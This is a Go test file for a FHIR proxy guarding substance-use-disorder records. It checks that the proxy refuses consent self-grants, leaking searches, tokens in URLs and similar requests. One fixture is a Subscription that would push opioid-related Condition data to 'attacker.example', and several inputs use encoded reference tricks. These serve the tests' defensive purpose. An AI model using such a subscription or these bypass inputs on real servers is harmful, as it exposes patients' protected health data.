package proxy

import (
	"io"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
)

// answeringCounted answers every request with body and counts what reached
// it.
func answeringCounted(body string) (http.HandlerFunc, *atomic.Int64) {
	var n atomic.Int64
	return func(w http.ResponseWriter, r *http.Request) {
		n.Add(1)
		fhirJSONHandler(200, body)(w, r)
	}, &n
}

const tokConsentWriter = "Organization/org-b|TREAT|user/*.* ds4p/consent-manager"

// A caller who may write resources could grant itself consent through the
// upstream's Consents (consents.upstream): writing a Consent needs the
// consent-manager role, in a request and in a batch entry, whatever the
// method; the role lets it through.
func TestConsentWritesNeedTheConsentManagerRole(t *testing.T) {
	t.Parallel()
	consentBody := `{"resourceType":"Consent","id":"c9","status":"active","patient":{"reference":"Patient/p1"}}`
	up, reached := answeringCounted(consentBody)
	h := newHarness(t, up)
	for _, c := range []struct{ method, path, ctype, body string }{
		{http.MethodPost, "/fhir/Consent", "application/fhir+json", consentBody},
		{http.MethodPut, "/fhir/Consent/c9", "application/fhir+json", consentBody},
		{http.MethodPatch, "/fhir/Consent/c9", "application/json-patch+json", `[{"op":"replace","path":"/status","value":"inactive"}]`},
		{http.MethodDelete, "/fhir/Consent/c9", "", ""},
		{http.MethodPost, "/fhir", "application/fhir+json", `{"resourceType":"Bundle","type":"transaction","entry":[{"resource":` + consentBody + `,"request":{"method":"POST","url":"Consent"}}]}`},
		{http.MethodPost, "/fhir", "application/fhir+json", `{"resourceType":"Bundle","type":"batch","entry":[{"request":{"method":"DELETE","url":"Consent/c9"}}]}`},
	} {
		resp, body := h.send(c.method, c.path, tokOtherWriter, c.ctype, c.body)
		if resp.StatusCode != http.StatusForbidden || !strings.Contains(body, "ds4p/consent-manager") {
			t.Errorf("%s %s: %d %s", c.method, c.path, resp.StatusCode, body)
		}
	}
	if n := reached.Load(); n != 0 {
		t.Fatalf("%d refused Consent writes reached the upstream", n)
	}
	if resp, body := h.send(http.MethodPut, "/fhir/Consent/c9", tokConsentWriter, "application/fhir+json", consentBody); resp.StatusCode == http.StatusForbidden {
		t.Fatalf("the consent manager was refused: %d %s", resp.StatusCode, body)
	}
	// Reading Consents is not a write.
	if resp, body := h.get("/fhir/Consent/c9", tokOther); resp.StatusCode == http.StatusForbidden {
		t.Fatalf("a read of a Consent was refused: %d %s", resp.StatusCode, body)
	}
}

// A Subscription makes the FHIR server send notifications past the proxy:
// creating or changing one is refused unless enforcement.allow_subscriptions;
// deleting one is not.
func TestSubscriptionWritesRefused(t *testing.T) {
	t.Parallel()
	sub := `{"resourceType":"Subscription","id":"s1","status":"requested","criteria":"Condition?code=F11.20","channel":{"type":"rest-hook","endpoint":"https://attacker.example/hook","payload":"application/fhir+json"}}`
	up, reached := answeringCounted(sub)
	h := newHarness(t, up)
	for _, c := range []struct{ method, path string }{{http.MethodPost, "/fhir/Subscription"}, {http.MethodPut, "/fhir/Subscription/s1"}} {
		resp, body := h.send(c.method, c.path, tokOtherWriter, "application/fhir+json", sub)
		if resp.StatusCode != http.StatusForbidden || !strings.Contains(body, "allow_subscriptions") {
			t.Errorf("%s %s: %d %s", c.method, c.path, resp.StatusCode, body)
		}
	}
	if resp, body := h.send(http.MethodPost, "/fhir", tokOtherWriter, "application/fhir+json",
		`{"resourceType":"Bundle","type":"batch","entry":[{"resource":`+sub+`,"request":{"method":"POST","url":"Subscription"}}]}`); resp.StatusCode != http.StatusForbidden {
		t.Errorf("batch entry: %d %s", resp.StatusCode, body)
	}
	if n := reached.Load(); n != 0 {
		t.Fatalf("%d refused Subscription writes reached the upstream", n)
	}
	allowed := newHarness(t, up, func(o *Options, _ *Deps) { o.Requests.AllowSubscriptions = true })
	if resp, body := allowed.send(http.MethodPost, "/fhir/Subscription", tokOtherWriter, "application/fhir+json", sub); resp.StatusCode == http.StatusForbidden {
		t.Fatalf("with allow_subscriptions: %d %s", resp.StatusCode, body)
	}
}

// $meta on a type or the server lists the labels in use across resources
// the caller may not read: refused; on one resource it is a read.
func TestTypeAndSystemMetaRefused(t *testing.T) {
	t.Parallel()
	up, reached := answeringCounted(`{"resourceType":"Parameters","parameter":[{"name":"return","valueMeta":{"security":[{"system":"http://terminology.hl7.org/CodeSystem/v3-ActCode","code":"42CFRPart2"}]}}]}`)
	h := newHarness(t, up)
	for _, path := range []string{"/fhir/Condition/$meta", "/fhir/$meta"} {
		resp, body := h.get(path, tokOther)
		if resp.StatusCode != http.StatusForbidden || !strings.Contains(body, "one resource only") {
			t.Errorf("%s: %d %s", path, resp.StatusCode, body)
		}
	}
	if resp, body := h.send(http.MethodPost, "/fhir", tokOther, "application/fhir+json",
		`{"resourceType":"Bundle","type":"batch","entry":[{"request":{"method":"GET","url":"Condition/$meta"}}]}`); resp.StatusCode != http.StatusForbidden {
		t.Errorf("batch entry: %d %s", resp.StatusCode, body)
	}
	if n := reached.Load(); n != 0 {
		t.Fatalf("%d refused $meta requests reached the upstream", n)
	}
}

// _content and _text match the whole stored text, elements cut from the
// answer included: refused unless enforcement.allow_text_search.
func TestTextSearchRefused(t *testing.T) {
	t.Parallel()
	up, reached := answeringCounted(`{"resourceType":"Bundle","type":"searchset"}`)
	h := newHarness(t, up)
	for _, path := range []string{"/fhir/Patient?_content=Riverside", "/fhir/Observation?_text=opioid", "/fhir/Patient?_CONTENT:exact=x"} {
		if resp, body := h.get(path, tokOther); resp.StatusCode != http.StatusBadRequest || !strings.Contains(body, "allow_text_search") {
			t.Errorf("%s: %d %s", path, resp.StatusCode, body)
		}
	}
	if n := reached.Load(); n != 0 {
		t.Fatalf("%d refused text searches reached the upstream", n)
	}
	allowed := newHarness(t, up, func(o *Options, _ *Deps) { o.Requests.AllowTextSearch = true })
	if resp, body := allowed.get("/fhir/Observation?_text=opioid", tokOther); resp.StatusCode != http.StatusOK {
		t.Fatalf("with allow_text_search: %d %s", resp.StatusCode, body)
	}
}

// JSON Patch test runs against the stored resource, cut elements included:
// refused, and never forwarded.
func TestJSONPatchTestRefused(t *testing.T) {
	t.Parallel()
	var patched atomic.Int64
	h := newHarness(t, func(w http.ResponseWriter, r *http.Request) {
		if r.Method != http.MethodGet {
			patched.Add(1)
		}
		fhirJSONHandler(200, `{"resourceType":"Patient","id":"p1"}`)(w, r)
	})
	resp, body := h.send(http.MethodPatch, "/fhir/Patient/p1", tokOtherWriter, "application/json-patch+json",
		`[{"op":"test","path":"/managingOrganization/reference","value":"Organization/p2"}]`)
	if resp.StatusCode != http.StatusBadRequest || !strings.Contains(body, "JSON Patch test") {
		t.Fatalf("test op: %d %s", resp.StatusCode, body)
	}
	if n := patched.Load(); n != 0 {
		t.Fatalf("a refused patch reached the upstream (%d requests)", n)
	}
}

// Patient searches that test the enrolment members whatever their value,
// or sort by them, would list or group the program's patients: refused
// when Part 2 programs are configured.
func TestEnrolmentMemberModifiersAndSortRefused(t *testing.T) {
	t.Parallel()
	up, reached := answeringCounted(`{"resourceType":"Bundle","type":"searchset"}`)
	h := newHarness(t, up, withProgram)
	for _, path := range []string{
		"/fhir/Patient?organization:missing=false",
		"/fhir/Patient?general-practitioner:missing=true",
		"/fhir/Patient?organization:not=Organization/x",
		"/fhir/Patient?_id=a,b&_sort=organization",
		"/fhir/Patient?_sort=name,-general-practitioner",
	} {
		if resp, body := h.get(path, tokConsented); resp.StatusCode != http.StatusForbidden || !strings.Contains(body, "Part 2 program") {
			t.Errorf("%s: %d %s", path, resp.StatusCode, body)
		}
	}
	if n := reached.Load(); n != 0 {
		t.Fatalf("%d refused searches reached the upstream", n)
	}
	for _, path := range []string{"/fhir/Patient?_sort=name", "/fhir/Observation?_sort=-date"} {
		if resp, body := h.get(path, tokConsented); resp.StatusCode != http.StatusOK {
			t.Errorf("%s: %d %s", path, resp.StatusCode, body)
		}
	}
	// Without programs nothing of this is refused.
	plain := newHarness(t, up)
	if resp, body := plain.get("/fhir/Patient?organization:missing=false", tokConsented); resp.StatusCode != http.StatusOK {
		t.Fatalf("without programs: %d %s", resp.StatusCode, body)
	}
}

// $everything of an enrolled patient must not carry the program's
// Organization beside the cut Patient; another patient's keeps an
// ordinary Organization, and a caller with consent gets both.
func TestEverythingOfAnEnrolledPatientWithholdsTheProgram(t *testing.T) {
	t.Parallel()
	bundle := func(patient, org string) string {
		return `{"resourceType":"Bundle","type":"searchset","entry":[` +
			`{"resource":{"resourceType":"Patient","id":"p1","managingOrganization":{"reference":"Organization/` + org + `"}}},` +
			`{"resource":{"resourceType":"Organization","id":"` + org + `","name":"Riverside Recovery"}}]}`
	}
	serve := func(b string) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			if strings.HasSuffix(r.URL.Path, "/Patient/p1") { // the instance, read and decided first
				fhirJSONHandler(200, `{"resourceType":"Patient","id":"p1"}`)(w, r)
				return
			}
			fhirJSONHandler(200, b)(w, r)
		}
	}
	h := newHarness(t, serve(bundle("p1", "p2")), withProgram)
	resp, body := h.get("/fhir/Patient/p1/$everything", tokOther)
	if resp.StatusCode != http.StatusOK || strings.Contains(body, `"Organization"`) || strings.Contains(body, "Riverside") || !strings.Contains(body, `"Patient"`) {
		t.Fatalf("caller without consent: %d %s", resp.StatusCode, body)
	}
	resp, body = h.get("/fhir/Patient/p1/$everything", tokConsented)
	if resp.StatusCode != http.StatusOK || !strings.Contains(body, `"id":"p2"`) {
		t.Fatalf("consented caller: %d %s", resp.StatusCode, body)
	}
	other := newHarness(t, serve(bundle("p1", "general")), withProgram)
	if resp, body := other.get("/fhir/Patient/p1/$everything", tokOther); resp.StatusCode != http.StatusOK || !strings.Contains(body, `"id":"general"`) {
		t.Fatalf("ordinary organisation: %d %s", resp.StatusCode, body)
	}
}

// A resource whose contained resource the caller may not read reads as
// missing; a write to it must answer the same, not go ahead.
func TestWriteToAResourceWithAWithheldContainedAnswersAsMissing(t *testing.T) {
	t.Parallel()
	obs := `{"resourceType":"Observation","id":"o1","status":"final","subject":{"reference":"Patient/p1"},"code":{"text":"x"},` +
		`"contained":[` + strings.Replace(sudCondition, `"id":"sud1"`, `"id":"c"`, 1) + `],"focus":[{"reference":"#c"}]}`
	var writes atomic.Int64
	h := newHarness(t, func(w http.ResponseWriter, r *http.Request) {
		if r.Method != http.MethodGet {
			writes.Add(1)
		}
		fhirJSONHandler(200, obs)(w, r)
	})
	if resp, body := h.get("/fhir/Observation/o1", tokOther); resp.StatusCode != http.StatusNotFound {
		t.Fatalf("read: %d %s", resp.StatusCode, body)
	}
	for _, method := range []string{http.MethodPut, http.MethodDelete} {
		b := ""
		if method == http.MethodPut {
			b = `{"resourceType":"Observation","id":"o1","status":"final","code":{"text":"x"}}`
		}
		resp, body := h.send(method, "/fhir/Observation/o1", tokOtherWriter, "application/fhir+json", b)
		if resp.StatusCode != http.StatusNotFound || body != string(notFoundBody("Observation", "o1")) {
			t.Errorf("%s: %d %s", method, resp.StatusCode, body)
		}
	}
	if n := writes.Load(); n != 0 {
		t.Fatalf("%d writes reached the upstream", n)
	}
}

// A search by a reference to a resource the caller may not read is sent
// as a search by a missing one: the server never matches the withheld
// resource, so what it answers cannot show that it exists. A consented
// caller's search goes as it was; directory targets are not read.
func TestSearchByAWithheldReferenceAnswersAsByAMissingOne(t *testing.T) {
	t.Parallel()
	var mu sync.Mutex
	var queries []string
	h := newHarness(t, func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/fhir/R4/Condition/sud1":
			fhirJSONHandler(200, sudCondition)(w, r)
			return
		case "/fhir/R4/Condition/ok1":
			fhirJSONHandler(200, `{"resourceType":"Condition","id":"ok1","subject":{"reference":"Patient/p1"},"code":{"text":"x"}}`)(w, r)
			return
		case "/fhir/R4/List", "/fhir/R4/Observation", "/fhir/R4/List/_search":
			q := r.URL.RawQuery
			if r.Method == http.MethodPost {
				b, _ := io.ReadAll(r.Body)
				q = string(b)
			}
			mu.Lock()
			queries = append(queries, q)
			mu.Unlock()
			fhirJSONHandler(200, `{"resourceType":"Bundle","type":"searchset"}`)(w, r)
			return
		}
		fhirJSONHandler(404, `{"resourceType":"OperationOutcome","issue":[{"severity":"error","code":"not-found"}]}`)(w, r)
	})
	last := func() string {
		mu.Lock()
		defer mu.Unlock()
		if len(queries) == 0 {
			return ""
		}
		return queries[len(queries)-1]
	}
	for _, c := range []struct{ path, tok, want, notWant string }{
		{"/fhir/List?item=Condition/sud1", tokOther, noneID, "sud1"},
		{"/fhir/List?item=Condition/nope", tokOther, noneID, "nope"},
		{"/fhir/List?item:Condition=sud1", tokOther, noneID, "sud1"},
		{"/fhir/Observation?focus=" + "http://example.invalid/x,Condition/sud1", tokOther, noneID, "Condition/sud1"},
		{"/fhir/List?item=Condition/sud1/", tokOther, noneID, "sud1"},
		{"/fhir/List?item=Condition//sud1", tokOther, noneID, "sud1"},
		{"/fhir/List?item=Condition/%2573ud1", tokOther, noneID, "sud1"},
		{"/fhir/List?item=Condition/sud1%23x", tokOther, noneID, "sud1"},
		{"/fhir/List?item=Condition/sud1", tokConsented, "sud1", noneID},
		{"/fhir/List?item=Condition/ok1", tokOther, "ok1", noneID},
		{"/fhir/Observation?subject=Patient/p1", tokOther, "Patient", noneID},
	} {
		resp, body := h.get(c.path, c.tok)
		q, _ := url.QueryUnescape(last())
		if resp.StatusCode != http.StatusOK || !strings.Contains(q, c.want) || strings.Contains(q, c.notWant) {
			t.Errorf("%s as %s: %d %s; upstream query %q", c.path, c.tok, resp.StatusCode, body, q)
		}
	}
	// POST _search: the form is rewritten too.
	resp, body := h.send(http.MethodPost, "/fhir/List/_search", tokOther, "application/x-www-form-urlencoded", "item=Condition/sud1")
	if q, _ := url.QueryUnescape(last()); resp.StatusCode != http.StatusOK || !strings.Contains(q, noneID) || strings.Contains(q, "sud1") {
		t.Fatalf("POST _search: %d %s; upstream form %q", resp.StatusCode, body, q)
	}
	// In a batch such a search is refused, whatever the target.
	resp, body = h.send(http.MethodPost, "/fhir", tokOther, "application/fhir+json",
		`{"resourceType":"Bundle","type":"batch","entry":[{"request":{"method":"GET","url":"List?item=Condition/nope"}}]}`)
	if resp.StatusCode != http.StatusBadRequest || !strings.Contains(body, "send it as its own request") {
		t.Fatalf("batch: %d %s", resp.StatusCode, body)
	}
}

// A token in the URL would be forwarded and kept in the ledger's query:
// refused, for reads, searches and batch entries, before anything is read
// or recorded.
func TestAccessTokenInTheQueryRefused(t *testing.T) {
	t.Parallel()
	up, reached := answeringCounted(`{"resourceType":"Bundle","type":"searchset"}`)
	h := newHarness(t, up)
	for _, path := range []string{"/fhir/Condition?patient=p1&access_token=eyJx", "/fhir/Condition/c1?ACCESS_TOKEN=eyJx"} {
		if resp, body := h.get(path, tokOther); resp.StatusCode != http.StatusBadRequest || !strings.Contains(body, "Authorization header") || strings.Contains(body, "eyJx") {
			t.Errorf("%s: %d %s", path, resp.StatusCode, body)
		}
	}
	if resp, body := h.send(http.MethodPost, "/fhir", tokOther, "application/fhir+json",
		`{"resourceType":"Bundle","type":"batch","entry":[{"request":{"method":"GET","url":"Condition?access_token=eyJx"}}]}`); resp.StatusCode != http.StatusBadRequest {
		t.Errorf("batch entry: %d %s", resp.StatusCode, body)
	}
	if n := reached.Load(); n != 0 {
		t.Fatalf("%d requests with a token in the URL reached the upstream", n)
	}
	h.ledger.mu.Lock()
	defer h.ledger.mu.Unlock()
	if len(h.ledger.entries) != 0 {
		t.Fatalf("recorded: %+v", h.ledger.entries)
	}
}
